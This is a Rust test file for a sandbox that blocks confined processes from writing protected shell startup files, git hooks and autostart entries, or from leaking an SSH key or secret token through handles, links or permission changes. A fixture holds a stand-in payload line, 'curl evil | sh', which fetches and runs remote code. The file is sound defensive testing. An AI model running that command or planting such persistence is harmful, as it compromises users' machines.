//! deny_write: a confined process, root included, cannot plant something that runs later
//! outside the sandbox. Each route that changes a protected file or directory (open for write,
//! truncate, create, unlink, rename into or out of, hardlink, symlink, mkdir, mknod) is denied;
//! reading stays allowed, and nothing changes outside the cgroup.

use std::{
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use std::os::unix::fs::PermissionsExt;

use crate::{changes::*, harness::*};

/// Audit records of `hook` from `cg`, waiting briefly for the daemon to drain the ring buffer.
fn records_of_hook(cg: &Cgroup, hook: &str) -> Vec<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let found: Vec<_> = audit_lines()
            .into_iter()
            .filter(|r| r["hook"] == hook && r["cgroup"] == cg.path.display().to_string())
            .collect();
        if !found.is_empty() || Instant::now() > deadline {
            return found;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A home with a shell startup file and a git repository whose hooks are protected.
struct Home {
    dir: PathBuf,
    bashrc: PathBuf,
    hooks: PathBuf,
    sample: PathBuf,
    payload: PathBuf,
}

fn protected_home(name: &str) -> (Cgroup, Home) {
    let dir = fixture_dir(name);
    let home = Home {
        bashrc: dir.join(".bashrc"),
        hooks: dir.join("project/.git/hooks"),
        sample: dir.join("project/.git/hooks/pre-commit.sample"),
        payload: dir.join("project/payload.sh"),
        dir,
    };
    write(&home.bashrc, "# the developer's own\n");
    write(&home.sample, "#!/bin/sh\n");
    write(&home.payload, "#!/bin/sh\ncurl evil | sh\n");
    let cg = Cgroup::new(name);
    let policy = policy_file(
        &home.dir,
        "persistence",
        "deny_write:\n  - ~/.bashrc\n  - ~/project/.git/hooks\n",
    );
    attach(&cg, &policy, &home.dir);
    (cg, home)
}

#[test]
fn a_protected_shell_startup_file_cannot_be_changed_by_any_route_but_stays_readable() {
    let (cg, home) = protected_home("write-bashrc");
    let (bashrc, payload) = (home.bashrc.as_path(), home.payload.as_path());
    let moved = home.dir.join("bashrc.moved");
    let linked = home.dir.join("bashrc.link");
    let results = try_changes(
        Some(&cg),
        &[
            ("append", "append", &[bashrc]),
            ("open_rw", "open_rw", &[bashrc]),
            ("truncate", "truncate", &[bashrc]),
            ("unlink", "unlink", &[bashrc]),
            ("replace_by_rename", "rename", &[payload, bashrc]),
            ("exchange", "exchange", &[payload, bashrc]),
            ("rename_out", "rename", &[bashrc, &moved]),
            ("hardlink", "link", &[bashrc, &linked]),
            ("read", "read", &[bashrc]),
        ],
    );
    assert_only_allowed(&results, &["read"]);
    assert_eq!(
        std::fs::read_to_string(bashrc).unwrap(),
        "# the developer's own\n"
    );
    assert!(!moved.exists() && !linked.exists());

    let records = records_for(bashrc, 1);
    assert!(
        records.iter().any(|r| r["hook"] == "path_unlink"
            && r["rule"] == "deny_write ~/.bashrc"
            && r["action"] == "deny"),
        "{records:?}"
    );

    // Outside the sandbox the developer's shell changes it as before.
    std::fs::write(bashrc, "# edited outside\n").unwrap();
}

#[test]
fn nothing_can_be_planted_in_a_protected_git_hooks_directory() {
    let (cg, home) = protected_home("write-hooks");
    let hook = |name: &str| home.hooks.join(name);
    let (pre_commit, post_checkout, pre_push) =
        (hook("pre-commit"), hook("post-checkout"), hook("pre-push"));
    let (sub, fifo) = (hook("sub"), hook("fifo"));
    let hooks_moved = home.dir.join("project/.git/hooks-old");
    let payload = home.payload.as_path();
    let results = try_changes(
        Some(&cg),
        &[
            ("create", "create", &[&pre_commit]),
            ("rename_in", "rename", &[payload, &pre_commit]),
            ("hardlink_in", "link", &[payload, &pre_push]),
            ("symlink_in", "symlink", &[payload, &post_checkout]),
            ("mkdir", "mkdir", &[&sub]),
            ("mkfifo", "mkfifo", &[&fifo]),
            ("unlink_sample", "unlink", &[&home.sample]),
            ("move_the_directory", "rename", &[&home.hooks, &hooks_moved]),
            ("remove_the_directory", "rmdir", &[&home.hooks]),
            // The rest of the repository stays writable.
            (
                "sibling",
                "create",
                &[&home.dir.join("project/.git/COMMIT_EDITMSG")],
            ),
            ("workspace", "append", &[payload]),
        ],
    );
    assert_only_allowed(&results, &["sibling", "workspace"]);
    for planted in [&pre_commit, &post_checkout, &pre_push, &sub, &fifo] {
        assert!(!planted.exists(), "{} was created", planted.display());
    }
    assert!(home.sample.exists());

    // A name that did not exist has no inode to record: the record names the hook and rule.
    let records = records_of_hook(&cg, "path_mknod");
    assert!(
        records
            .iter()
            .any(|r| r["rule"] == "deny_write ~/project/.git/hooks"),
        "{records:?}"
    );

    // Outside the sandbox git (or the developer) installs hooks as before.
    write(&pre_commit, "#!/bin/sh\n");
}

#[test]
fn a_protected_path_that_does_not_exist_yet_cannot_be_created() {
    let home = fixture_dir("write-missing");
    let zshrc = home.join(".zshrc");
    let autostart = home.join(".config/autostart/agent.desktop");
    let scratch = home.join("scratch");
    write(&scratch, "x");
    let cg = Cgroup::new("write-missing");
    let policy = policy_file(
        &home,
        "missing",
        "deny_write:\n  - ~/.zshrc\n  - ~/.config/autostart\n",
    );
    attach(&cg, &policy, &home);

    let autostart_dir = home.join(".config/autostart");
    let results = try_changes(
        Some(&cg),
        &[
            ("create", "create", &[&zshrc]),
            ("rename_in", "rename", &[&scratch, &zshrc]),
            ("symlink", "symlink", &[&scratch, &zshrc]),
            ("config_dir", "mkdir", &[&home.join(".config")]),
            ("autostart_dir", "mkdir", &[&autostart_dir]),
            ("other_dir", "mkdir", &[&home.join(".config/other")]),
        ],
    );
    // ~/.config itself is not protected: only the path below it.
    assert_only_allowed(&results, &["config_dir", "other_dir"]);
    assert!(!zshrc.exists() && !autostart_dir.exists());
    assert!(!autostart.exists());
}

#[test]
fn deny_read_files_cannot_be_hardlinked_renamed_out_or_opened_up_to_others() {
    let home = fixture_dir("harden-read");
    let ssh = home.join(".ssh");
    let key = ssh.join("id_ed25519");
    write(&key, "PRIVATE KEY");
    std::fs::set_permissions(&key, PermissionsExt::from_mode(0o600)).unwrap();
    let cg = confined("harden-read", &home, &[&ssh]);
    let results = try_changes(
        Some(&cg),
        &[
            ("hardlink_out", "link", &[&key, &home.join("key.link")]),
            ("rename_out", "rename", &[&key, &home.join("key.moved")]),
            ("rename_dir", "rename", &[&ssh, &home.join("ssh.moved")]),
            // Readable by everyone, its owner changed, or shared by an ACL: another user outside
            // would read it later.
            ("chmod", "chmod_open", &[&key]),
            ("chown", "chown_root", &[&key]),
            ("acl", "acl", &[&key]),
        ],
    );
    assert_only_allowed(&results, &[]);
    assert_eq!(cg.open(&key), Err(EPERM));
    assert_eq!(
        std::fs::metadata(&key).unwrap().permissions().mode() & 0o7777,
        0o600,
        "the key's mode changed"
    );
    assert!(!home.join("key.link").exists());
}

/// name_to_handle_at then open_by_handle_at on argv[1], with argv[2] (a directory on the same
/// filesystem) as the mount descriptor: OK:<content> or ERR:<errno>.
const OPEN_BY_HANDLE: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
class FileHandle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
h = FileHandle(128, 0)
mount_id = ctypes.c_int()
if libc.name_to_handle_at(AT_FDCWD, sys.argv[1].encode(), ctypes.byref(h), ctypes.byref(mount_id), 0) != 0:
    print("ERR:%d" % ctypes.get_errno(), end=""); sys.exit()
mount_fd = os.open(sys.argv[2], os.O_RDONLY)
fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), os.O_RDONLY)
if fd < 0:
    print("ERR:%d" % ctypes.get_errno(), end=""); sys.exit()
print("OK:" + os.read(fd, 100).decode(), end="")
"#;

#[test]
fn a_file_handle_does_not_reach_a_denied_inode() {
    let home = fixture_dir("by-handle");
    let secret = home.join("secrets/token");
    let open = home.join("notes");
    write(&secret, "s3cret");
    write(&open, "hello");
    let by_handle = |cg: Option<&Cgroup>, file: &Path| {
        probe(
            cg,
            OPEN_BY_HANDLE,
            &[file.to_str().unwrap(), home.to_str().unwrap()],
        )
    };
    // By default a confined task has no CAP_DAC_READ_SEARCH: no handle opens at all.
    let cg = confined("by-handle", &home, &[&home.join("secrets")]);
    assert_eq!(by_handle(Some(&cg), &secret), Err(EPERM));
    assert_eq!(by_handle(Some(&cg), &open), Err(EPERM));
    // Given the capability back, the handle reaches the inode and the rule denies it there.
    let secrets = home.join("secrets").display().to_string();
    let policy = policy_file(
        &home,
        "by-handle-cap",
        &format!("deny_read: [{secrets:?}]\ncapabilities:\n  allow: [DAC_READ_SEARCH]\n"),
    );
    let given = Cgroup::new("by-handle-cap");
    attach(&given, &policy, &home);
    assert_eq!(by_handle(Some(&given), &secret), Err(EPERM));
    // Handles still work for what the policy allows, and outside the sandbox.
    assert_eq!(by_handle(Some(&given), &open), Ok("hello".into()));
    assert_eq!(by_handle(None, &secret), Ok("s3cret".into()));
}

#[test]
fn the_mode_owner_file_capabilities_and_acl_of_a_protected_program_cannot_be_changed() {
    let home = fixture_dir("write-attrs");
    let tool = home.join("bin/tool");
    let scratch = home.join("scratch/tool");
    for file in [&tool, &scratch] {
        write(file, "#!/bin/sh\necho tool\n");
        std::fs::set_permissions(file, PermissionsExt::from_mode(0o755)).unwrap();
    }
    // A capability set outside, so that dropping it is a change to try too.
    let preset = try_changes(
        None,
        &[
            ("tool", "setcap", &[&tool]),
            ("scratch", "setcap", &[&scratch]),
        ],
    );
    assert_only_allowed(&preset, &["tool", "scratch"]);
    let before = file_state(&tool);
    let modified = std::fs::metadata(&tool).unwrap().modified().unwrap();
    let cg = Cgroup::new("write-attrs");
    // SETFCAP given back: deny_write alone stands between the workload and the file.
    let policy = policy_file(
        &home,
        "attrs",
        "deny_write:\n  - ~/bin\ncapabilities:\n  allow: [SETFCAP]\n",
    );
    attach(&cg, &policy, &home);

    let ops = [
        "open_trunc",
        "chmod_open",
        "setcap",
        "dropcap",
        "acl",
        "utimes",
        "touch",
        "chattr",
        "chown_root",
    ];
    let names: Vec<(String, String)> = ops
        .iter()
        .map(|op| (op.to_string(), format!("unprotected_{op}")))
        .collect();
    let mut tries: Vec<(&str, &str, &[&Path])> = Vec::new();
    let (tool_arg, scratch_arg) = ([tool.as_path()], [scratch.as_path()]);
    for (op, (protected, unprotected)) in ops.iter().zip(&names) {
        tries.push((protected, op, &tool_arg));
        tries.push((unprotected, op, &scratch_arg));
    }
    let results = try_changes(Some(&cg), &tries);
    let unprotected: Vec<&str> = names.iter().map(|(_, u)| u.as_str()).collect();
    assert_only_allowed(&results, &unprotected);

    assert_eq!(
        file_state(&tool),
        before,
        "mode, owner, capability or ACL changed"
    );
    assert_eq!(
        std::fs::metadata(&tool).unwrap().modified().unwrap(),
        modified,
        "the times changed"
    );
    for hook in ["inode_setattr", "file_ioctl"] {
        let records = records_of_hook(&cg, hook);
        assert!(
            records.iter().any(|r| r["rule"] == "deny_write ~/bin"),
            "{hook}: {records:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(&tool).unwrap(),
        "#!/bin/sh\necho tool\n"
    );
    let records = records_of_hook(&cg, "path_chmod");
    assert!(
        records.iter().any(|r| r["rule"] == "deny_write ~/bin"),
        "{records:?}"
    );
}
